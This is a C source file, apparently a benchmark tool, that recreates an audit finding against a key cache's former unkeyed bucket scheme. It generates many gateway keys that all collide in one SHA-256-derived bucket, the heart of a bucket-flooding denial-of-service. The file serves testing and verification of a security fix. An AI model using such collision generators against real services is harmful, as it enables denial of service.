/* shm_collide.c - the attack of issue 12 finding 3, computed offline: N
 * gateway keys that all land in one bucket of the key cache's unkeyed
 * scheme of before (the bucket was the first four bytes of the key's
 * SHA-256, little-endian, XOR the provider, masked by the zone's bucket
 * count). The first key printed sets the bucket; bench/shm-collide.sh
 * makes it a real key and the others unknown ones.
 *
 *   shm-collide N BITS [PREFIX]     BITS: log2 of the zone's buckets */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <openssl/evp.h>


int
main(int argc, char **argv)
{
    unsigned char  md[EVP_MAX_MD_SIZE];
    unsigned int   mdlen;
    unsigned long  n, bits, found, i, mask, bucket, b;
    const char    *prefix;
    char           key[128];
    int            len;
    EVP_MD        *sha;
    EVP_MD_CTX    *ctx;

    if (argc < 3) {
        fprintf(stderr, "usage: shm-collide N BITS [PREFIX]\n");
        return 2;
    }

    n = strtoul(argv[1], NULL, 10);
    bits = strtoul(argv[2], NULL, 10);
    prefix = argc > 3 ? argv[3] : "sk-collide-";

    if (n == 0 || bits == 0 || bits > 31) {
        fprintf(stderr, "shm-collide: N > 0, 0 < BITS < 32\n");
        return 2;
    }

    mask = (1UL << bits) - 1;
    sha = EVP_MD_fetch(NULL, "SHA256", NULL);
    ctx = EVP_MD_CTX_new();

    if (sha == NULL || ctx == NULL) {
        fprintf(stderr, "shm-collide: no SHA-256\n");
        return 1;
    }

    bucket = 0;

    for (i = 0, found = 0; found < n; i++) {
        len = snprintf(key, sizeof(key), "%s%lu", prefix, i);

        if (EVP_DigestInit_ex2(ctx, sha, NULL) != 1
            || EVP_DigestUpdate(ctx, key, (size_t) len) != 1
            || EVP_DigestFinal_ex(ctx, md, &mdlen) != 1)
        {
            fprintf(stderr, "shm-collide: SHA-256 failed\n");
            return 1;
        }

        /* TP_OPENAI is 0: the XOR leaves the bytes as they are */
        b = ((unsigned long) md[0] | (unsigned long) md[1] << 8
             | (unsigned long) md[2] << 16 | (unsigned long) md[3] << 24)
            & mask;

        if (found == 0) {
            bucket = b;
        }

        if (b == bucket) {
            printf("%s\n", key);
            found++;
        }
    }

    fprintf(stderr, "shm-collide: %lu keys in bucket %lu of %lu, %lu tried\n",
            n, bucket, mask + 1, i);

    EVP_MD_CTX_free(ctx);
    EVP_MD_free(sha);

    return 0;
}
